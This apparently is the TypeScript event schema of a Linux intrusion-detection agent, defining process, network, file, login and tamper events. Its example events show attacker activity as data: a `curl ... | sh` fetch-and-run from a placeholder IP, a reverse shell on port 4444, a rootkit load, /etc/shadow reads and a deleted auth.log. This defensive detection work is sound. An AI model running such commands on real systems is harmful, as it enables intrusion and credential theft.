/**
 * The event schema: one table of event kinds, from which come the TypeScript types, the runtime
 * validator (./validate.ts) and docs/events.md (./docs.ts). Add a kind here and all three follow.
 */
import { Type, Optional as Opt, OptionalKind, type Static, type TObject, type TSchema, type TProperties } from '@sinclair/typebox';
import {
  Ancestor,
  Count,
  Credentials,
  Endpoint,
  FileFields,
  HadesProcess,
  Int,
  Ip,
  Network,
  Obj,
  Process,
  ProcessRef,
  Str,
  Timestamp,
  Words,
} from './fields.js';
import { SECURITY_DAEMON_EXECUTABLES, SECURITY_DAEMON_NAMES } from '../security-daemons.js';


export const EVENT_KINDS = ['event', 'metric', 'state'] as const;
export const EVENT_OUTCOMES = ['success', 'failure', 'unknown'] as const;

/** The process context attached to every event a process causes. */
export const ProcessContext = Obj({
  process: Process,
  container: Opt(Obj({ id: Str('Container id (from the cgroup path).', 128), runtime: Opt(Str('Container runtime, e.g. docker.', 32)) }, 'The container the process runs in (from its cgroup; the same in every event of the process).')),
  hades: Opt(
    Obj({
      process: Opt(HadesProcess),
      ancestors: Opt(Type.Array(Ancestor, { maxItems: 8, description: 'Ancestors, parent first (up to 8): the process that started this one, then the one that started it, and so on. A process adopted by init or a subreaper after its parent exited keeps that parent here (process.parent is the adopting one).' })),
      ancestry: Opt(Str('One line ancestry: the process itself, then its ancestors, parent first, e.g. `bash(812) < sshd(790) < sshd(1)`.', 4096)),
      missing: Opt(Type.Array(Str('Field path.', 64), { description: 'Fields that could not be read (cn_proc backend): mostly because the process had already exited; exit: process.exit_code, the exit message of its last thread lost; process_rename: hades.rename.old_name, a name the backend never saw.' })),
      compat_syscall: Opt(Type.Boolean({ description: 'Kernel security events: true when the system call that caused the event was a 32-bit (ia32) one, made by a 32-bit program or with int 0x80 by a 64-bit one (which has no reason to: a way around monitors that only watch 64-bit calls).' })),
    }),
  ),
});

/** Where a log-derived event (ssh_login, sudo) was read. */
const LogOrigin = Obj(
  {
    source: Type.Union([Type.Literal('journal'), Type.Literal('file')], { description: '`journal` (journald, whose entries carry the sender\'s uid) or `file` (a syslog file such as /var/log/auth.log).' }),
    file: Opt(Str('The file, for the file source.', 1024)),
    program: Str('The program that logged it (syslog identifier): sshd, sshd-session, sshd-auth, sudo.', 64),
    pid: Opt(Int('Its process id, as logged.')),
    message: Str('The log message, cut at 1,024 characters.', 1024),
  },
  'Where the event was read.',
);

type ProcessUse = 'required' | 'optional' | 'none';

export interface EventKindSpec<A extends string = string, F extends TProperties = TProperties> {
  readonly action: A;
  readonly kind: (typeof EVENT_KINDS)[number];
  readonly category: readonly string[];
  readonly type: readonly string[];
  readonly summary: string;
  readonly process: ProcessUse;
  readonly fields: TObject<F>;
  /** The kind-specific part of an example event (the common part is added by exampleEvent). */
  readonly example: Record<string, unknown>;
  /** For kinds no component produces yet: what will produce them. */
  readonly planned?: string;
  /** More about the kind for docs/events.md: paragraphs, each one string. */
  readonly notes?: readonly string[];
}

function kind<A extends string, F extends TProperties, P extends ProcessUse>(
  spec: EventKindSpec<A, F> & { process: P },
): EventKindSpec<A, F> & { process: P } {
  return spec;
}

const Empty = Obj({});

const exampleProcess = {
  pid: 4242,
  entity_id: '3f9a6c2e81d4-4242-9680012',
  name: 'curl',
  executable: '/usr/bin/curl',
  args: ['curl', '-s', 'http://203.0.113.7/x.sh'],
  command_line: 'curl -s http://203.0.113.7/x.sh',
  working_directory: '/tmp',
  user: { id: '33', name: 'www-data' },
  parent: { pid: 4240, entity_id: '3f9a6c2e81d4-4240-9680000', name: 'sh', executable: '/usr/bin/dash' },
};

const exampleHades = {
  ancestors: [
    { pid: 4240, name: 'sh', executable: '/usr/bin/dash', args: ['sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh'] },
    { pid: 812, name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' },
    { pid: 1, name: 'systemd', executable: '/usr/lib/systemd/systemd', args: ['/sbin/init'] },
  ],
  ancestry: 'curl(4242) < sh(4240) < php-fpm8.2(812) < systemd(1)',
};

const Creds = Credentials('Credentials.');

const Errno = Opt(Str('errno name when the call failed, e.g. EPERM.', 16));

/** Socket details of connect, accept and listen. */
const SocketDetail = Opt(
  Obj({
    socket: Obj(
      {
        fd: Opt(Count('Socket file descriptor.')),
        errno: Errno,
        state: Opt(Words(['pending', 'established', 'failed'], 'For non-blocking TCP connects: pending when the call returned, then established or failed in a second event.')),
        connect_call: Opt(Type.Boolean({ description: 'connect: false when the TCP connection was opened without connect(2) (sendto/sendmsg with MSG_FASTOPEN, io_uring): seen when its SYN left, pending, then established or failed.' })),
        backlog: Opt(Count('listen backlog.')),
      },
      'The socket call.',
    ),
  }),
);

/** What the file events add under hades.file. */
const FileDetail = Obj(
  {
    syscall: Opt(Str('The call, e.g. openat, renameat2, unlinkat, fchmodat.', 32)),
    errno: Errno,
    watch: Opt(Str('The watched prefix that matched.')),
    created: Opt(Type.Boolean({ description: 'file_create: true when the call created the file; false when an existing file was opened with O_CREAT or O_TRUNC or emptied by truncate(2) / ftruncate(2) (for links: when the call failed).' })),
    truncated: Opt(Type.Boolean({ description: 'file_create: true when an existing file was emptied: opened with O_TRUNC, or truncate(2) / ftruncate(2) to length 0.' })),
    written: Opt(Type.Boolean({ description: 'file_create: true when an existing regular file was opened for writing without O_CREAT or O_TRUNC, to be written in place (write, pwrite, mmap, splice, copy_file_range...).' })),
    executable: Opt(Type.Boolean({ description: 'file_create: true when the file has an execute bit.' })),
    old_path: Opt(Str('file_rename: the path before the rename.')),
    argument: Opt(Str('The path as the program gave it, when it differs from file.path, its lexical normal form (symbolic links in it are not resolved): a truncate(2) argument, or a path argument with an empty, `.` or `..` component (file_rename: the new path; hades.file.old_path is normalised too).')),
    old_mode: Opt(Str('file_chmod: permission bits before, octal, when known.', 8)),
    mtime_seconds: Opt(Type.Integer({ description: 'file_times: the modification time the call set, seconds since the epoch (file.mtime as a date).' })),
    atime_seconds: Opt(Type.Integer({ description: 'file_times: the access time the call set, seconds since the epoch.' })),
    backdated: Opt(Type.Boolean({ description: 'file_times: true when the modification time set is more than a day before the call: a file made to look older than it is.' })),
    made_executable: Opt(Type.Boolean({ description: 'file_chmod: true when the change added an execute bit.' })),
    setuid: Opt(Type.Boolean({ description: 'file_chmod: true when the new mode has the setuid or setgid bit; file_create: true (else absent) when the file was made with one of them.' })),
    link: Opt(
      Obj(
        {
          type: Words(['hard', 'symbolic'], 'hard: link(2), a new name for an existing file; symbolic: symlink(2).'),
          target: Str('hard: the old name, absolute; symbolic: the target as given (may be relative). With from_fd, the descriptor\'s name (`#<inode>` for an O_TMPFILE file) or the /proc path followed.'),
          resolved: Opt(Str('The target made absolute from the link\'s folder, `.` and `..` removed (symbolic links are not followed).')),
          from_fd: Opt(Type.Boolean({ description: 'hard: the name was given to an open file (linkat with AT_EMPTY_PATH, or /proc/self/fd/N followed), such as a file made nameless by O_TMPFILE.' })),
        },
        'file_create by link, linkat, symlink or symlinkat: the new name is file.path.',
      ),
    ),
    sensitive: Opt(Str('file_open: the driver.sensitive_files path under which the opened file was registered; differs from file.path when it was reached through another link. A registered file replaced since (passwd renames a new one over it) whose inode number the file system gave to a new file before the agent expanded the patterns again is not the secret: that open is told with file.path here.')),
    access: Opt(Words(['read', 'write', 'read_write'], 'file_open: what the open allows.')),
    fresh: Opt(
      Obj(
        {
          age_ms: Type.Integer({ description: 'Milliseconds between the write and this open (at most 600,000: later opens are not reported).' }),
          writer_pid: Type.Integer({ description: 'The process (pid) that wrote the file.' }),
        },
        'file_open of a file freshly written in a temporary folder (/tmp, /var/tmp, /dev/shm, directly or one folder below) rather than of a sensitive file: its first open for reading by each process other than its writer, within 10 minutes of the write (a script dropped there and sourced, `. /dev/shm/x`, or read by an interpreter). hades.file.sensitive is then absent.',
      ),
    ),
  },
  'File details.',
);

/** Every event kind Hades produces. `event.action` values are short and stable. */
export const eventKinds = {
  exec: kind({
    action: 'exec',
    kind: 'event',
    category: ['process'],
    type: ['start'],
    summary: 'A process executed a program (execve/execveat succeeded).',
    process: 'required',
    fields: Empty,
    example: {
      process: { ...exampleProcess, args_count: 3, start: '2026-11-28T08:00:00.123Z', hash: { sha256: 'a'.repeat(64) } },
      hades: {
        ...exampleHades,
        process: { tty: 'pts/0', stdio: { stdin: { type: 'pipe', inode: 91234 }, stdout: { type: 'socket', socket: { family: 'ipv4', transport: 'tcp', local_ip: '10.0.0.5', local_port: 51234, remote_ip: '203.0.113.7', remote_port: 4444 } } }, args_truncated: false },
      },
    },
  }),
  fork: kind({
    action: 'fork',
    kind: 'event',
    category: ['process'],
    type: ['start'],
    summary: 'A process created a child process (fork/clone of a new thread group).',
    process: 'required',
    fields: Empty,
    notes: [
      "What a fork event tells of the child: its pid, entity id, name, start, parent, effective user and group (process.user, process.group), its program (its parent's, which it runs until it executes another: process.executable and args) and its ancestry. Its working directory, terminal, descriptors, cgroup and namespaces are those its parent had at that moment; the driver does not read them again for a fork (they would cost every fork what they cost an exec), and they come in the child's own exec event, or in the parent's. New threads are not reported.",
    ],
    example: { process: { pid: 4243, entity_id: '3f9a6c2e81d4-4243-9680020', name: 'bash', parent: { pid: 4242, entity_id: '3f9a6c2e81d4-4242-9680012' } } },
  }),
  exit: kind({
    action: 'exit',
    kind: 'event',
    category: ['process'],
    type: ['end'],
    summary: 'A process exited (its last thread ended).',
    process: 'required',
    fields: Empty,
    notes: [
      'What an exit event tells: the exit code (process.exit_code: the status, or 128 + the signal that killed it), the end, the name, the program, start, parent and ancestry as the process tree knows them, and the container. It carries no credentials: the driver reads none at exit, and the ones the process had are in its exec and privilege_change events (process.entity_id joins them).',
    ],
    example: { process: { pid: 4242, entity_id: '3f9a6c2e81d4-4242-9680012', name: 'curl', exit_code: 0, end: '2026-11-28T08:00:01.000Z' } },
  }),
  connect: kind({
    action: 'connect',
    kind: 'event',
    category: ['network'],
    type: ['connection', 'start'],
    summary: 'A process connected a socket to a remote address (TCP or UDP, IPv4 or IPv6).',
    process: 'required',
    fields: Obj({
      source: Opt(Endpoint('Local end.')),
      destination: Endpoint('Remote end (an IP and port, or the path of a unix socket).'),
      network: Network,
      hades: SocketDetail,
    }),
    example: { process: exampleProcess, source: { ip: '10.0.0.5', port: 51234 }, destination: { ip: '203.0.113.7', port: 80 }, network: { transport: 'tcp', type: 'ipv4', direction: 'egress' }, event: { outcome: 'success' } },
  }),
  accept: kind({
    action: 'accept',
    kind: 'event',
    category: ['network'],
    type: ['connection', 'start'],
    summary: 'A process accepted an incoming connection.',
    process: 'required',
    fields: Obj({ source: Endpoint('Remote end (the client).'), destination: Endpoint('Local end (the listener).'), network: Network, hades: SocketDetail }),
    example: { process: { pid: 790, entity_id: '3f9a6c2e81d4-790-8000000', name: 'sshd', executable: '/usr/sbin/sshd' }, source: { ip: '198.51.100.9', port: 50022 }, destination: { ip: '10.0.0.5', port: 22 }, network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' } },
  }),
  listen: kind({
    action: 'listen',
    kind: 'event',
    category: ['network'],
    type: ['start'],
    summary: 'A process started listening on an address and port.',
    process: 'required',
    fields: Obj({ source: Endpoint('The bound address and port.'), network: Network, hades: SocketDetail }),
    example: { process: { pid: 5100, entity_id: '3f9a6c2e81d4-5100-9690000', name: 'nc', executable: '/usr/bin/nc.openbsd' }, source: { ip: '0.0.0.0', port: 4444 }, network: { transport: 'tcp', type: 'ipv4' } },
  }),
  dns_query: kind({
    action: 'dns_query',
    kind: 'event',
    category: ['network'],
    type: ['protocol', 'info'],
    summary: 'A process sent a DNS question (parsed from packets sent to port 53), or received its answer: the answer, where seen, is an event of its own (dns.type answer).',
    process: 'required',
    fields: Obj({
      destination: Endpoint('The resolver.'),
      network: Network,
      dns: Obj(
        {
          id: Opt(Count('DNS message id.')),
          type: Words(['query', 'answer'], 'query: the question the process sent; answer: the response it received (a second event, with response_code and answers).'),
          question: Opt(Obj({ name: Str('Queried name; bytes outside printable ASCII, dots and backslashes inside a label are escaped as \\DDD.', 1024), type: Str('Record type, e.g. A, AAAA, TXT.', 16), class: Opt(Str('Class, e.g. IN.', 16)) }, 'The (first) question; absent when the message could not be parsed.')),
          response_code: Opt(Str('Response code, e.g. NOERROR, NXDOMAIN.', 16)),
          answers: Opt(Type.Array(Obj({ name: Opt(Str('Name.', 1024)), type: Opt(Str('Type.', 16)), data: Opt(Str('Data.', 1100)), ttl: Opt(Count('TTL in seconds.')) }, 'One answer.'), { description: 'Answers.' })),
          resolved_ip: Opt(Type.Array(Ip('Address.'), { description: 'Addresses in the answers.' })),
        },
        'The DNS message.',
      ),
      hades: Opt(
        Obj({
          dns: Opt(
            Obj(
              {
                malformed: Opt(Str('Why the message could not be parsed (e.g. bad_label, pointer_loop); the event is kept: malformed DNS is itself suspicious.', 32)),
                questions: Opt(Count('Questions in the message, when more than one.')),
                truncated: Opt(Type.Boolean({ description: 'True when only the first 512 bytes were captured or the message was cut.' })),
                bytes: Opt(Count('Size of the whole message.')),
              },
              'Details of unusual DNS messages.',
            ),
          ),
        }),
      ),
    }),
    example: { process: exampleProcess, destination: { ip: '127.0.0.53', port: 53 }, network: { transport: 'udp', type: 'ipv4', protocol: 'dns' }, dns: { id: 4711, type: 'query', question: { name: 'x1y2.oast.fun', type: 'A', class: 'IN' } } },
  }),
  ptrace: kind({
    action: 'ptrace',
    kind: 'event',
    category: ['process'],
    type: ['access'],
    summary: 'A process attached to, seized or wrote into another process: ptrace, process_vm_writev, or an open of /proc/PID/mem for writing.',
    process: 'required',
    fields: Obj({
      hades: Obj({
        ptrace: Obj({ request: Str('Request name, e.g. attach, seize, pokedata, pokeuser, setregs, traceme; or, for the other ways to write into a process, process_vm_writev and proc_mem_write (/proc/PID/mem opened for writing).', 32), request_code: Int('Numeric request (process_vm_writev: 65536, proc_mem_write: 65537).'), target: ProcessRef('The traced process.'), errno: Errno }, 'The ptrace call.'),
      }),
    }),
    example: { process: { pid: 6000, entity_id: '3f9a6c2e81d4-6000-9700000', name: 'gdb', executable: '/usr/bin/gdb' }, hades: { ptrace: { request: 'attach', request_code: 16, target: { pid: 790, name: 'sshd', executable: '/usr/sbin/sshd' } } } },
  }),
  memfd_create: kind({
    action: 'memfd_create',
    kind: 'event',
    category: ['file'],
    type: ['creation'],
    summary: 'A process created an anonymous in-memory file (memfd_create), the first step of fileless execution.',
    process: 'required',
    fields: Obj({
      file: Obj({ name: Str('The memfd name given by the caller.', 255) }, 'The in-memory file.'),
      hades: Obj({ memfd: Obj({ flags: Count('Flags as passed.'), flag_names: Type.Array(Str('Flag.', 32), { description: 'Flag names, e.g. MFD_CLOEXEC.' }), fd: Opt(Count('The new file descriptor.')) }, 'memfd_create arguments.') }),
    }),
    example: { process: exampleProcess, file: { name: 'kworker' }, hades: { memfd: { flags: 1, flag_names: ['MFD_CLOEXEC'] } } },
  }),
  module_load: kind({
    action: 'module_load',
    kind: 'event',
    category: ['driver'],
    type: ['start'],
    summary: 'A kernel module was loaded.',
    process: 'optional',
    fields: Obj({
      hades: Obj({ module: Obj({ name: Str('Module name (from the kernel, else the file name; unknown when neither is known).', 64), path: Opt(Str('File it was loaded from (finit_module).')), syscall: Opt(Str('init_module or finit_module.', 16)), errno: Errno }, 'The module.') }),
    }),
    example: { process: { pid: 7000, entity_id: '3f9a6c2e81d4-7000-9710000', name: 'insmod', executable: '/usr/sbin/insmod', args: ['insmod', 'rootkit.ko'] }, hades: { module: { name: 'rootkit' } } },
  }),
  privilege_change: kind({
    action: 'privilege_change',
    kind: 'event',
    category: ['process'],
    type: ['change'],
    summary: 'A process changed its credentials (set*id, capset), or an exec gained root without a setuid executable or an allowed path.',
    process: 'required',
    fields: Obj({
      hades: Obj({
        privilege: Obj(
          {
            call: Str('What changed them: setuid, setgid, setreuid, setregid, setresuid, setresgid, setfsuid, setfsgid, capset or exec.', 16),
            before: Creds,
            after: Creds,
            reason: Opt(Str('Why it is reported, e.g. root_without_setuid.', 64)),
            errno: Errno,
          },
          'The credential change.',
        ),
      }),
    }),
    example: {
      process: exampleProcess,
      hades: { privilege: { call: 'setuid', before: { uid: 33, gid: 33, euid: 33, egid: 33 }, after: { uid: 0, gid: 33, euid: 0, egid: 33 } } },
    },
  }),
  process_rename: kind({
    action: 'process_rename',
    kind: 'event',
    category: ['process'],
    type: ['change'],
    summary:
      'A process changed its name (the kernel\'s comm, what ps, top and /proc/PID/stat show) other than by exec: prctl(PR_SET_NAME), or a write to /proc/PID/comm or /proc/PID/task/PID/comm. process.name is the new name. Only the renames of the process itself (its thread group leader) are reported, not those of its other threads (pthread_setname_np), and at most 8 a second per process; the others are counted (hades.rename.unreported, and agent_drop events with reason rate_limit), and the newest of them is always reported: by the next event, or by a catch-up event (hades.rename.catch_up) once the process has stopped renaming for a second. From this event on, the agent names the process by its new name: in its later events, its exit and its descendants\' ancestry; its exec event keeps the name it started with. Kernel threads are not reported. From the driver hook task_rename, on both backends: eBPF (the kernel\'s task_rename tracepoint) and cn_proc (the proc connector\'s COMM message, which gives the new name only: the old one is the name the driver or the agent last saw, and a rename made before the cn_proc driver read the exec\'s name leaves the exec event without process.name and this event without hades.rename.old_name).',
    process: 'required',
    fields: Obj({
      hades: Obj({
        rename: Obj(
          {
            old_name: Opt(Str('The name before the change. Absent when not known (cn_proc backend, which reports the new name only; hades.missing then lists hades.rename.old_name).', 64)),
            unreported: Opt(Count('Renames of this process the driver did not send since the previous one it sent (over the bound of 8 a second). With catch_up: the renames this event stands for, the newest of which gave process.name.')),
            catch_up: Opt(Type.Boolean({ description: 'true when the driver sent this event after the fact: the process renamed itself over the bound and then stopped, so no later event would have carried its newest name. Sent within about 2 seconds of the rename (once the bound\'s one-second window has passed), or before the process\'s exit event (cn_proc); process.name is the newest name, hades.rename.old_name the name before the first rename it stands for, @timestamp the time of the newest rename.' })),
          },
          'The change of name.',
        ),
      }),
    }),
    example: {
      process: { ...exampleProcess, name: 'kworker/0:1H', executable: '/usr/bin/python3.11', args: ['python3', '/tmp/.x/m.py'], command_line: 'python3 /tmp/.x/m.py' },
      hades: { rename: { old_name: 'python3' } },
    },
  }),
  file_create: kind({
    action: 'file_create',
    kind: 'event',
    category: ['file'],
    type: ['creation'],
    summary: 'A file was created in a watched place (also as a hard or symbolic link), or an existing one opened to be created or emptied (O_CREAT, O_TRUNC).',
    process: 'required',
    fields: Obj({ file: FileFields, hades: Obj({ file: FileDetail }) }),
    example: { process: exampleProcess, file: { path: '/tmp/x', name: 'x', directory: '/tmp', mode: '0755' }, hades: { file: { executable: true, watch: '/tmp' } } },
  }),
  file_rename: kind({
    action: 'file_rename',
    kind: 'event',
    category: ['file'],
    type: ['change'],
    summary: 'A file was renamed into, out of or within a watched place.',
    process: 'required',
    fields: Obj({ file: FileFields, hades: Obj({ file: FileDetail }) }),
    example: { process: exampleProcess, file: { path: '/etc/cron.d/job', name: 'job', directory: '/etc/cron.d' }, hades: { file: { old_path: '/tmp/job', watch: '/etc/cron.d' } } },
  }),
  file_delete: kind({
    action: 'file_delete',
    kind: 'event',
    category: ['file'],
    type: ['deletion'],
    summary: 'A file was deleted from a watched place.',
    process: 'required',
    fields: Obj({ file: FileFields, hades: Obj({ file: FileDetail }) }),
    example: { process: exampleProcess, file: { path: '/var/log/auth.log', name: 'auth.log', directory: '/var/log' }, hades: { file: { syscall: 'unlinkat' } } },
  }),
  file_chmod: kind({
    action: 'file_chmod',
    kind: 'event',
    category: ['file'],
    type: ['change'],
    summary: 'The permissions of a file in a watched place changed, or a file anywhere was given the setuid bit.',
    process: 'required',
    fields: Obj({ file: FileFields, hades: Obj({ file: FileDetail }) }),
    example: { process: exampleProcess, file: { path: '/tmp/x', name: 'x', mode: '0755' }, hades: { file: { old_mode: '0644', made_executable: true } } },
  }),
  file_times: kind({
    action: 'file_times',
    kind: 'event',
    category: ['file'],
    type: ['change'],
    summary: 'The access or modification time of a file in a watched place was set to a given time (utime, utimes, futimesat, utimensat; not the calls that set them to now): `touch -d`, `touch -r`, `os.utime`, `cp -p`, an archive extracted.',
    process: 'required',
    fields: Obj({ file: FileFields, hades: Obj({ file: FileDetail }) }),
    example: { process: exampleProcess, file: { path: '/usr/bin/ps', name: 'ps', directory: '/usr/bin', mtime: '2019-01-01T00:00:00.000Z', atime: '2019-01-01T00:00:00.000Z' }, hades: { file: { syscall: 'utimensat', mtime_seconds: 1546300800, atime_seconds: 1546300800, backdated: true } } },
  }),
  file_open: kind({
    action: 'file_open',
    kind: 'event',
    category: ['file'],
    type: ['access'],
    summary: 'A sensitive file (driver.sensitive_files: password hashes, private keys) was opened, by whatever path or link; or a file freshly written in a temporary folder was first opened for reading by another process than its writer (hades.file.fresh).',
    process: 'required',
    fields: Obj({ file: FileFields, hades: Obj({ file: FileDetail }) }),
    example: {
      process: { ...exampleProcess, name: 'python3', executable: '/usr/bin/python3.11', args: ['python3', '/tmp/.x/d.py'], command_line: 'python3 /tmp/.x/d.py' },
      file: { path: '/etc/shadow', name: 'shadow', directory: '/etc', inode: 1837, mode: '0640' },
      hades: { file: { syscall: 'openat', sensitive: '/etc/shadow', access: 'read' } },
    },
  }),
  ssh_login: kind({
    action: 'ssh_login',
    kind: 'event',
    category: ['authentication', 'session'],
    type: ['start', 'info'],
    summary: 'An SSH login attempt (success, failure, invalid user), from journald or auth.log (the built-in log collector).',
    process: 'optional',
    fields: Obj({
      source: Endpoint('The client.'),
      user: Obj({ name: Str('User name tried.', 256) }, 'The account.'),
      hades: Obj({
        ssh: Obj(
          {
            method: Opt(Str('password, publickey, keyboard-interactive/pam, ...; absent on an `Invalid user` line, which sshd writes before any attempt.', 32)),
            invalid_user: Opt(Type.Boolean({ description: 'True when the user does not exist.' })),
            key: Opt(Str('The key of a publickey login: type and fingerprint, as sshd logs them.', 256)),
          },
          'The SSH attempt.',
        ),
        log: LogOrigin,
      }),
    }),
    example: { source: { ip: '198.51.100.9', port: 50022 }, user: { name: 'root' }, event: { outcome: 'failure' }, hades: { ssh: { method: 'password', invalid_user: false }, log: { source: 'journal', program: 'sshd', pid: 4410, message: 'Failed password for root from 198.51.100.9 port 50022 ssh2' } } },
  }),
  sudo: kind({
    action: 'sudo',
    kind: 'event',
    category: ['process', 'authentication'],
    type: ['start', 'info'],
    summary: 'A command was run (or refused) through sudo, from journald or auth.log (the built-in log collector).',
    process: 'optional',
    fields: Obj({
      user: Obj({ name: Str('Who ran sudo.', 256), target: Opt(Obj({ name: Str('Target user.', 256) }, 'The user the command runs as.')) }, 'The accounts.'),
      hades: Obj({
        sudo: Obj(
          {
            command: Str('The command line sudo logged.', 65536),
            tty: Opt(Str('Terminal.', 64)),
            working_directory: Opt(Str('Folder.')),
            reason: Opt(Str('Why sudo refused (outcome failure), as logged: `user NOT in sudoers`, `3 incorrect password attempts`, `command not allowed`, ...', 256)),
            ambiguous: Opt(Type.Boolean({ description: 'True when the working directory or the command holds text that looks like sudo\'s own fields (` ; USER=x ; COMMAND=`): the first reading was taken; hades.log.message has the line.' })),
          },
          'The sudo log entry.',
        ),
        log: LogOrigin,
      }),
    }),
    example: { user: { name: 'alice', target: { name: 'root' } }, event: { outcome: 'success' }, hades: { sudo: { command: '/usr/bin/systemctl restart nginx', tty: 'pts/1', working_directory: '/home/alice' }, log: { source: 'file', file: '/var/log/auth.log', program: 'sudo', pid: 5120, message: 'alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx' } } },
  }),
  honeypot_touch: kind({
    action: 'honeypot_touch',
    kind: 'event',
    category: ['network', 'intrusion_detection'],
    type: ['connection', 'info'],
    summary: 'Something connected to or sent data to a decoy port opened by the honeypot mode.',
    process: 'none',
    fields: Obj({
      source: Endpoint('Who touched the decoy.'),
      destination: Endpoint('The decoy address and port.'),
      network: Network,
      hades: Obj({
        honeypot: Obj(
          {
            service: Opt(Str('Service the decoy imitates.', 32)),
            bytes: Count('Bytes received.'),
            payload: Opt(Str('First bytes received, base64.', 8192)),
            folded: Opt(Count('Touches from this source (an IPv6 address: its /64) over its allowance (30 a minute, 200 a second for all sources) reported together in this event: their bytes are in `bytes`, and `source.port` and `payload` are absent.')),
          },
          'The touch.',
        ),
      }),
    }),
    example: { source: { ip: '10.0.0.77', port: 40000 }, destination: { ip: '10.0.0.5', port: 2323 }, network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' }, hades: { honeypot: { service: 'telnet', bytes: 12, payload: 'cm9vdA0KYWRtaW4NCg==' } } },
  }),
  scan_match: kind({
    action: 'scan_match',
    planned: 'YARA scanning',
    kind: 'event',
    category: ['malware', 'file'],
    type: ['info'],
    summary: 'A YARA scan matched a file.',
    process: 'optional',
    fields: Obj({
      file: FileFields,
      hades: Obj({
        scan: Obj(
          {
            engine: Str('Scanner, e.g. yara-x.', 32),
            trigger: Words(['on_demand', 'new_executable', 'scheduled'], 'Why the file was scanned.'),
            rules: Type.Array(Obj({ id: Str('Rule identifier.', 128), namespace: Opt(Str('Namespace.', 128)), tags: Opt(Type.Array(Str('Tag.', 64), { description: 'Tags.' })) }, 'A matching rule.'), { description: 'Rules that matched.' }),
          },
          'The scan.',
        ),
      }),
    }),
    example: { file: { path: '/tmp/.x/xmrig', name: 'xmrig', hash: { sha256: 'b'.repeat(64) } }, hades: { scan: { engine: 'yara-x', trigger: 'new_executable', rules: [{ id: 'XMRig_Miner', tags: ['miner'] }] } } },
  }),
  inventory_change: kind({
    action: 'inventory_change',
    kind: 'state',
    category: ['host', 'configuration'],
    type: ['change', 'info'],
    summary: 'A row appeared in or disappeared from an inventory table, or a full snapshot row at start.',
    process: 'none',
    fields: Obj({
      hades: Obj({
        inventory: Obj(
          {
            table: Str('Table name, e.g. listening_ports.', 64),
            query: Opt(Str('Name of the scheduled query.', 128)),
            change: Words(['added', 'removed', 'snapshot'], 'What happened to the row.'),
            row: Type.Record(Type.String(), Type.Union([Type.String(), Type.Number(), Type.Boolean(), Type.Null()]), { description: 'The row, column to value (a blob as hex text, an integer beyond 2^53 as text of its digits).' }),
          },
          'The inventory row.',
        ),
      }),
    }),
    example: { hades: { inventory: { table: 'listening_ports', change: 'added', row: { pid: 5100, port: 4444, address: '0.0.0.0', protocol: 'tcp' } } } },
  }),
  package_finding: kind({
    action: 'package_finding',
    kind: 'state',
    category: ['package', 'malware'],
    type: ['info'],
    summary: 'An installed package looks malicious: a typosquat of a popular name or on a known-bad list.',
    process: 'none',
    fields: Obj({
      package: Obj({ name: Str('Package name.', 256), version: Opt(Str('Version.', 128)), type: Str('Ecosystem: python, npm, deb, rpm, jar.', 16), path: Opt(Str('Where it is installed.')) }, 'The package.'),
      hades: Obj({ finding: Obj({ reason: Words(['typosquat', 'known_bad', 'vulnerable'], 'Why it is reported.'), similar_to: Opt(Str('The popular package it imitates.', 256)), distance: Opt(Count('Edit distance to it.')), detail: Opt(Str('More context.', 1024)) }, 'The finding.') }),
    }),
    example: { package: { name: 'reqeusts', version: '2.31.0', type: 'python', path: '/usr/lib/python3/dist-packages' }, hades: { finding: { reason: 'typosquat', similar_to: 'requests', distance: 2 } } },
  }),
  tamper: kind({
    action: 'tamper',
    kind: 'event',
    category: ['intrusion_detection'],
    type: ['info'],
    summary: 'Something killed a Hades process or changed or removed its files, or sent a signal to an audit or security monitoring daemon.',
    notes: [
      "The process context is the sender of a signal (with its ancestry) or the process that changed the file. Signals are the kill, tkill, tgkill and pidfd_send_signal calls (their 32-bit forms too) whose target the agent asked the driver to watch (driver/PROTOCOL.md, PROTECTED_PID): Hades' own processes (`hades.tamper.target` `process`; `kill(-1, sig)` too, as `broadcast`), and the audit and security monitoring daemons (`security_daemon`, with `hades.tamper.target_process` naming the daemon).",
      `The daemons are the processes named (comm) ${SECURITY_DAEMON_NAMES.map((n) => `\`${n}\``).join(', ')}, or running ${SECURITY_DAEMON_EXECUTABLES.map((n) => `\`${n}\``).join(' or ')}, as the default rules' lists \`security_daemons\` and \`security_daemon_executables\` name them; and their forked children (auditd detaches by forking). The agent finds them in /proc at start and in exec and fork records as they come, and lets each go at its exit; a signal sent between a daemon's exec and the moment the agent has registered it (milliseconds) is not seen. A signal whose record comes after the daemon's exit (SIGKILL ends it at once, before the sender's call returns) still names it, for 5 seconds. At most 1,000 daemon processes are watched at once (the driver's map holds 1,024 pids with Hades' own): those beyond are counted in \`agent_drop\` events (component agent, hook kill, reason \`daemon_not_protected\`) and their signals are not reported. A signal sent by a process of another pid namespace names its target by that namespace's pid and is not matched.`,
      'Not seen: signals the kernel sends itself (the out-of-memory killer, a terminal hang-up, a parent-death signal), and any signal with the cn_proc backend, which has no syscall hooks.',
    ],
    process: 'optional',
    fields: Obj({
      hades: Obj({
        tamper: Obj(
          {
            target: Words(['process', 'file', 'security_daemon'], 'What was touched: a Hades process, a Hades file, or an audit or security monitoring daemon (auditd, osqueryd, Falco, Wazuh...) sent a signal.'),
            operation: Opt(Str('The call or event, e.g. kill, tgkill, file_delete, file_rename.', 32)),
            signal: Opt(Int('Signal sent, for kills (0 = an existence probe).')),
            target_pid: Opt(Count('Process that received it.')),
            target_process: Opt(ProcessRef('The security daemon that received the signal (target security_daemon), as it was when it was signalled (it may have exited since).')),
            broadcast: Opt(Type.Boolean({ description: 'True for kill(-1, sig): every process.' })),
            group: Opt(Type.Boolean({ description: 'True for kill(-pgid, sig) to the process group of a Hades process or of a security daemon.' })),
            by_parent: Opt(Type.Boolean({ description: "True when the sender is `hades start`, the agent's parent, which stops its agent with SIGTERM at Ctrl-C; it is protected like the agent itself, so a signal to it is tampering too." })),
            path: Opt(Str('File that was changed or removed.')),
          },
          'The tampering.',
        ),
      }),
    }),
    example: { process: { pid: 8000, entity_id: '3f9a6c2e81d4-8000-9720000', name: 'kill', executable: '/usr/bin/kill' }, hades: { tamper: { target: 'process', signal: 9, target_pid: 900 } } },
  }),
